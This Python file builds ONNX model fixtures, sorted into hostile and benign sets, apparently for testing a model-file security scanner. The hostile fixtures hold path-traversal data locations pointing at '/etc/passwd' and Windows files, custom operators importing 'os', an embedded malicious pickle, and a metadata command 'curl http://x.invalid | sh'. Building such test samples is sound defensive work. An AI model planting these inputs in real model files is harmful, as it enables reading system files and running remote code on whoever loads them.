"""ONNX models: small honest ones, and ones that need code or files from elsewhere."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial

from tests.artifacts.builders.payloads import EVIL_PICKLE_2
from tests.artifacts.builders.protobufs import message, number, text


def node(operator: str, *attributes: bytes, domain: str = "") -> bytes:
    head = [text(1, "x"), text(2, "y"), text(3, "n"), text(4, operator)]
    return b"".join([*head, *attributes, *([text(7, domain)] if domain else [])])


def graph(*nodes: bytes, tensors: tuple[bytes, ...] = ()) -> bytes:
    parts = [message(1, one) for one in nodes] + [text(2, "g")]
    return b"".join(parts + [message(5, one) for one in tensors])


def tensor(*, location: str | None = None, key: str = "location", data: bytes = b"\0" * 8) -> bytes:
    head = number(1, 2) + number(2, 1) + text(8, "w")
    if location is None:
        return head + message(9, data)
    entry = message(13, text(1, key), text(2, location))
    return head + entry + number(14, 1)


def lone_tensor(field: int, data: bytes = EVIL_PICKLE_2) -> bytes:
    """A tensor as a file of its own, with other bytes in one of its fields."""
    kind, count = (8, 1) if field == 6 else (2, len(data) if field == 9 else 1)
    numbers = b"" if field in {6, 9} else message(9, b"\1")
    return number(1, count) + number(2, kind) + text(8, "w") + numbers + message(field, data)


def model(body: bytes, *more: bytes, version: int = 8) -> bytes:
    opset = message(8, text(1, ""), number(2, 17))
    producer = text(2, "pytorch") + text(3, "2.4")
    return number(1, version) + producer + message(7, body) + opset + b"".join(more)


def attribute(name: str, *value: bytes) -> bytes:
    return message(5, text(1, name), *value)


def function(domain: str, name: str, *nodes: bytes) -> bytes:
    return message(25, text(1, name), *[message(7, one) for one in nodes], text(10, domain))


def external(location: str, key: str = "location") -> bytes:
    return model(graph(node("Relu"), tensors=(tensor(location=location, key=key),)))


def value(*axes: int) -> bytes:
    """What goes into a graph or comes out of it: numbers of this shape."""
    shape = b"".join(message(1, number(1, axis)) for axis in axes)
    return text(1, "v") + message(2, message(1, number(1, 1), message(2, shape)))


PYTHON = node("PyOp", attribute("module", message(4, b"os")), domain="ai.onnx.contrib")
OUTSIDE = tensor(location="../../etc/passwd")

HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "onnx/output-without-end": lambda: model(
        graph(node("Relu")) + message(12, value((1 << 31) - 1, (1 << 31) - 1))
    ),
    "onnx/tensor-without-end": lambda: model(
        graph(node("Relu"), tensors=(number(1, 1 << 42) + number(2, 1) + text(8, "w"),))
    ),
    "onnx/external-traversal": lambda: external("../../etc/passwd"),
    "onnx/external-absolute": lambda: external("/etc/passwd"),
    "onnx/external-drive": lambda: external("C:\\Windows\\win.ini"),
    "onnx/external-backslashes": lambda: external("data\\..\\..\\secret"),
    "onnx/external-url": lambda: external("https://example.invalid/w.bin"),
    "onnx/external-share": lambda: external("\\\\host\\share\\w.bin"),
    "onnx/external-memory-address": lambda: external("*/_ORT_MEM_ADDR_/*"),
    "onnx/external-basepath": lambda: external("/etc", key="basepath"),
    "onnx/external-sets-attribute": lambda: external("x", key="__class__"),
    "onnx/external-in-constant": lambda: model(
        graph(node("Constant", attribute("value", message(5, OUTSIDE))))
    ),
    "onnx/external-in-tensor-list": lambda: model(
        graph(node("Constant", attribute("value", message(10, OUTSIDE))))
    ),
    "onnx/external-in-sparse": lambda: model(
        graph(node("Relu")) + message(15, message(1, OUTSIDE))
    ),
    "onnx/external-in-training": lambda: model(
        graph(node("Relu")), message(20, message(1, graph(tensors=(OUTSIDE,))))
    ),
    "onnx/python-operator": lambda: model(graph(PYTHON)),
    "onnx/python-operator-in-subgraph": lambda: model(
        graph(node("If", attribute("then_branch", message(6, graph(PYTHON)))))
    ),
    "onnx/python-operator-in-function": lambda: model(
        graph(node("f", domain="local")), function("local", "f", PYTHON)
    ),
    "onnx/python-operator-in-second-graph": lambda: model(
        graph(node("Relu")), message(7, graph(PYTHON))
    ),
    "onnx/custom-domain": lambda: model(graph(node("Conv", domain="evil.ops"))),
    "onnx/custom-operator": lambda: model(graph(node("LoadPlugin"))),
    "onnx/engine-outside": lambda: model(
        graph(
            node(
                "EPContext",
                attribute("ep_cache_context", text(4, "../../engine.bin")),
                domain="com.microsoft",
            )
        )
    ),
    "onnx/metadata-command": lambda: model(
        graph(node("Relu")), message(14, text(1, "hook"), text(2, "curl http://x.invalid | sh"))
    ),
    "onnx/python-function-of-the-extensions": lambda: model(
        graph(node("Reverse", domain="ai.onnx.contrib"))
    ),
    "onnx/tensor-outside": lambda: OUTSIDE,
    **{
        f"onnx/tensor-with-a-pickle-in-field-{field}": partial(lone_tensor, field)
        for field in (3, 6, 9, 12, 16)
    },
    "onnx/tensor-with-a-tail": lambda: tensor() + EVIL_PICKLE_2,
    "onnx/group-hides-graph": lambda: model(graph(node("Relu"))) + b"\x3b" + message(7, b"x"),
}
BENIGN: Mapping[str, Callable[[], bytes]] = {
    "onnx/open-axes": lambda: model(
        graph(node("Relu")) + message(11, value((1 << 64) - 1, 4096, 4096)) + message(12, value())
    ),
    "onnx/plain": lambda: model(graph(node("Conv"), node("Relu"), tensors=(tensor(),))),
    "onnx/external-beside": lambda: external("model.onnx.data"),
    "onnx/subgraph": lambda: model(
        graph(node("If", attribute("then_branch", message(6, graph(node("Add")))))),
    ),
    "onnx/local-function": lambda: model(
        graph(node("Swish2", domain="pkg.torch")), function("pkg.torch", "Swish2", node("Mul"))
    ),
    "onnx/extension": lambda: model(graph(node("GPT2Tokenizer", domain="ai.onnx.contrib"))),
    "onnx/tensor": tensor,
    "onnx/classical": lambda: model(graph(node("TreeEnsembleClassifier", domain="ai.onnx.ml"))),
    "onnx/large-tensor": lambda: model(graph(node("Relu"), tensors=(tensor(data=bytes(300_000)),))),
}
